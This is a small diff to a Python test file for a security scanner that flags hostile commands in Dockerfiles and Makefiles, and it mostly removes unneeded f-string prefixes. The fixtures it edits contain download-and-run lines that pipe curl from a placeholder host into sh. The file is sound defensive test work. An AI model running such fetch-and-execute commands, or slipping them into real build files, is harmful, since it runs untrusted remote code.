@@ -8,7 +8,7 @@ from typing import TYPE_CHECKING
 
 import pytest
 
-from build.inspecting import inspected, rules_of, scanned
+from build.inspecting import inspected, scanned
 from weighbridge.core.findings import Severity, Verdict
 
 if TYPE_CHECKING:
@@ -101,7 +101,7 @@ HOSTILE = {
     "a download in an image": ("Dockerfile", f"FROM x\nRUN {BAD}\n", "config/command", "high"),
     "a download over two lines": (
         "Dockerfile",
-        f"FROM x\nRUN curl https://example.invalid/x \\\n  | sh\n",
+        "FROM x\nRUN curl https://example.invalid/x \\\n  | sh\n",
         "config/command",
         "high",
     ),
@@ -110,7 +110,7 @@ HOSTILE = {
     "a download on build": ("Dockerfile", f"FROM x\nONBUILD RUN {BAD}\n", "config/command", "high"),
     "a download with another escape": (
         "Dockerfile",
-        f"# escape=`\nFROM x\nRUN curl https://example.invalid/x `\n | sh\n",
+        "# escape=`\nFROM x\nRUN curl https://example.invalid/x `\n | sh\n",
         "config/command",
         "high",
     ),
@@ -163,7 +163,7 @@ HOSTILE = {
     "a target in one line": ("Makefile", f"all: ; {BAD}\n", "config/command", "high"),
     "a target with a variable": (
         "Makefile",
-        f"GET = curl\nall:\n\t$(GET) https://example.invalid/x | sh\n",
+        "GET = curl\nall:\n\t$(GET) https://example.invalid/x | sh\n",
         "config/command",
         "high",
     ),
